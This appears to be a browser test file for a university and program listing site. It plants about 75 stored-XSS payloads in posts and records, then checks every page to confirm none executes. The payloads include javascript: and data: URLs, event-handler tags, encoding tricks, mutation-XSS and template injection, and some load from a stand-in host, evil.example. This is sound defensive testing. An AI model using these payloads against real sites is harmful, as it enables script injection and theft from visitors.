import { expect, test } from "vitest";
import { visit } from "../support/browser.ts";
import { post, program, university } from "../support/factories.ts";

/** Known payloads that turn stored text into script. Each of them would call `__x`. */
const payloads = [
	"<script>__x()</script>",
	"<ScRiPt>__x()</sCrIpT>",
	"<script src=//evil.example/x.js></script>",
	"</title><script>__x()</script>",
	"</style><script>__x()</script>",
	"</textarea><script>__x()</script>",
	"</script><script>__x()</script>",
	"--><script>__x()</script>",
	"]]><script>__x()</script>",
	"<img src=x onerror=__x()>",
	"<img src=x onerror='__x()'//",
	'"><img src=x onerror=__x()>',
	"'><img src=x onerror=__x()>",
	"<svg onload=__x()>",
	"<svg><script>__x()</script></svg>",
	"<svg><animate onbegin=__x() attributeName=x dur=1s>",
	"<svg><a xlink:href=javascript:__x()><text y=20>x</text></a></svg>",
	"<math><mtext></mtext><mglyph><style><img src=x onerror=__x()></style></mglyph></math>",
	"<body onload=__x()>",
	"<iframe src=javascript:__x()></iframe>",
	"<iframe srcdoc='<script>parent.__x()</script>'></iframe>",
	"<object data=javascript:__x()></object>",
	"<embed src=javascript:__x()>",
	"<details open ontoggle=__x()>",
	"<video><source onerror=__x()></video>",
	"<audio src=x onerror=__x()>",
	"<input autofocus onfocus=__x()>",
	"<select autofocus onfocus=__x()>",
	"<marquee onstart=__x()>",
	"<form action=javascript:__x()><input type=submit></form>",
	"<a href=javascript:__x()>x</a>",
	"<a href='java\nscript:__x()'>x</a>",
	"<base href=//evil.example/>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<meta http-equiv=refresh content='0;url=javascript:__x()'>",
	"<style>@import '//evil.example/x.css'</style>",
	"<template><script>__x()</script></template>",
	"<noscript><p title='</noscript><img src=x onerror=__x()>'>",
	"<is-land data-i='SaveToggle' data-p='{}'></is-land>",
	"<div data-save=x data-results data-form>x</div>",
	"[x](javascript:__x())",
	"[x](JaVaScRiPt:__x())",
	"[x](java&#115;cript:__x())",
	"[x](&#106;avascript:__x())",
	"[x](\u0001javascript:__x())",
	"[x](data:text/html,<script>__x()</script>)",
	"[x](vbscript:__x())",
	"[x](//evil.example)",
	'[x](https://example.com"onmouseover="__x())',
	"![x](javascript:__x())",
	'![x](x"onerror="__x())',
	"![x](data:image/svg+xml,<svg onload=__x()>)",
	"<javascript:__x()>",
	"[x]: javascript:__x()\n\n[x]",
	"| <img src=x onerror=__x()> | b |\n|---|---|\n| <script>__x()</script> | c |",
	"```html\n<script>__x()</script>\n```",
	"`<script>__x()</script>`",
	"# <img src=x onerror=__x()>",
	"> <script>__x()</script>",
	"- <img src=x onerror=__x()>",
	"{{constructor.constructor('__x()')()}}",
	"#{__x()}",
	"\u2028<script>__x()</script>\u2029",
	"\u202e<script>__x()</script>",
	"&lt;script&gt;__x()&lt;/script&gt;",
	"&#60;img src=x onerror=__x()&#62;",
	"%3Cscript%3E__x()%3C/script%3E",
	"<<script>script>__x()</script>",
	"<scr<script>ipt>__x()</scr</script>ipt>",
	"'-__x()-'",
	"\\'-__x()//",
	"</ScRiPt ><ScRiPt >__x()</ScRiPt >",
	"<a id=__x><a id=__x name=y>",
	"javascript:__x()",
];

test("S-07, XSS: no stored text runs as script on any page, even without the content security policy", async () => {
	expect(payloads.length).toBeGreaterThanOrEqual(60);
	const { page, site } = await visit({ start: "empty" });
	const ran: string[] = [];
	await page.exposeFunction("__x", () => ran.push(page.url()));
	page.on("dialog", async (dialog) => {
		ran.push(dialog.message());
		await dialog.dismiss();
	});
	const system = site.system;
	const slugs: string[] = [];
	const ids: string[] = [];
	for (const [index, payload] of payloads.entries()) {
		const words = payload.slice(0, 250);
		const slug = `payload-${index}`;
		slugs.push(slug);
		await post(system, {
			slug,
			title: words,
			excerpt: words,
			content: `${payload}\n\n${payload}`,
			tags: [words.slice(0, 50)],
		});
		const universityId = await university(system, {
			name: words,
			description: payload,
			location: words,
			scholarships: payload,
		});
		ids.push(`/universities/${universityId}`);
		ids.push(
			`/programs/${await program(system, { universityId, title: words, description: payload, fees: words, requirements: payload })}`,
		);
	}
	const lists = [
		"/",
		"/programs",
		"/programs?page=2",
		"/universities",
		"/universities?page=3",
		"/blog",
		"/apply",
		"/blog/feed.xml",
	];
	for (const path of [...lists, ...slugs.map((slug) => `/blog/${slug}`), ...ids]) {
		await page.goto(path, { waitUntil: "load" });
		// A click would run a script URL in a link.
		const scriptable = await page.evaluate(() => {
			const elements = [...document.querySelectorAll("a[href], form[action], img[src], iframe, object, embed, base")];
			const scripts = /^\s*(javascript|vbscript|data:text)/i;
			return elements
				.filter((element) => ["href", "action", "src"].some((name) => scripts.test(element.getAttribute(name) ?? "")))
				.map((element) => element.outerHTML);
		});
		expect(scriptable, path).toEqual([]);
		expect(
			await page.locator(".prose [onerror], .prose script, .prose iframe, .prose svg, [onload], [onfocus]").count(),
			path,
		).toBe(0);
	}
	// The visitor's console must be clean at the end (tests/support/browser.ts), so no policy violation was reported
	// either.
	expect(ran).toEqual([]);
}, 240_000);
